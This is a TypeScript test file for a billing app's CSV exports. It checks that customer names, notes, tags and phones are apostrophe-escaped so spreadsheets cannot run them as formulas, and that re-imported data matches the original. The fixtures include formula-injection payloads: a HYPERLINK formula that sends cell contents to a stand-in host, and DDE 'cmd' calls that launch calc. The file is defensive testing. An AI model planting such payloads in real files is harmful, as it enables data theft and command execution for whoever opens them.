// Every CSV Billbook writes is opened in spreadsheets: no text cell may run as a formula, and our own
// customer export must import back to exactly the text that went out.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../renderer/lib/csv';
import { call, makeCore } from '../helpers/core';

/** Starts a spreadsheet reads as a formula (OWASP's list, plus leading spaces before one). */
const RUNS_AS_FORMULA = /^(?:[\t\r\n]|\s*[=+\-@])/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

const NAMES = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-Tech Ltd',
  '+254 Traders',
  "'Quoted Ltd",
  "'=Already Quoted",
  "''+Two Quotes",
  'Plain Ltd',
];

function cells(csvText: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(csvText.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
}

describe('CSV exports', () => {
  it('never lets a customer name, note, tag or phone run as a formula, and the import reads it back unchanged', async () => {
    const { core } = makeCore();
    for (const [i, name] of NAMES.entries()) {
      await call(core, 'customers.create', {
        name, email: `c${i}@example.com`, phone: `0722 0000${String(i).padStart(2, '0')}`,
        notes: i % 2 === 0 ? `=cmd|' /C calc'!A${i}\nsecond line` : `-note ${i}`,
        tags: i % 2 === 0 ? ['=evil', 'vip'] : ['+plus', "'quoted"],
      });
    }
    const exported = await call(core, 'customers.export', { sort: 'code' });
    const rows = cells(exported.csvText);
    expect(rows).toHaveLength(NAMES.length);
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        if (PLAIN_NUMBER.test(value)) continue;
        expect(value, `${column}: ${value}`).not.toMatch(RUNS_AS_FORMULA);
      }
    }
    expect(rows.map((r) => r.Phone)).toContain("'+254722000000");

    const { core: other } = makeCore();
    const preview = await call(other, 'customers.import.preview', { csvText: exported.csvText, fileName: 'export.csv' });
    expect(preview).toMatchObject({ totalRows: NAMES.length, acceptedRows: NAMES.length, rejected: [] });
    await call(other, 'customers.import.commit', { csvText: exported.csvText, fileName: 'export.csv', mapping: preview.mapping, duplicateActions: {} });

    const full = async (c: typeof core) => {
      const list = (await call(c, 'customers.list', { sort: 'code' })).rows;
      return Promise.all(list.map(async (r) => {
        const x = await call(c, 'customers.get', { id: r.id });
        return { name: x.name, notes: x.notes, tags: x.tags, phone: x.phone, email: x.email };
      }));
    };
    expect(await full(other)).toEqual(await full(core));
  });

  it('guards a cell the same way in every CSV writer: customers, reports and the charts’ tables', async () => {
    const { core } = makeCore();
    for (const [i, name] of NAMES.entries()) await call(core, 'customers.create', { name, email: `c${i}@example.com` });
    const customerCsv = cells((await call(core, 'customers.export', { sort: 'code' })).csvText).map((r) => r.Name);
    const report = await call(core, 'reports.export', {
      report: { kind: 'builder', definition: { rows: 'customers', sortBy: 'customerCode' } }, format: 'csv',
    });
    const reportCsv = cells(report.text).map((r) => r.Customer);
    const chartCsv = cells(toCsv(['Customer'], NAMES.map((n) => [n]))).map((r) => r.Customer);
    expect(reportCsv).toEqual(customerCsv);
    expect(chartCsv).toEqual(customerCsv);
    expect(customerCsv).toEqual([
      `'=HYPERLINK("http://x.example/?"&A1,"Click")`,
      "'+SUM(1+1)",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1)",
      "'-Tech Ltd",
      "'+254 Traders",
      "'Quoted Ltd",
      // Text that already starts with apostrophes before a formula character gets one more, so the
      // import can tell the guard's apostrophe from the customer's own.
      "''=Already Quoted",
      "'''+Two Quotes",
      'Plain Ltd',
    ]);
    // Amounts stay numbers, negative ones included.
    expect(cells(toCsv(['Amount', 'Text'], [[-1500.5, '-1500.50']]))).toEqual([{ Amount: '-1500.5', Text: '-1500.50' }]);
  });
});
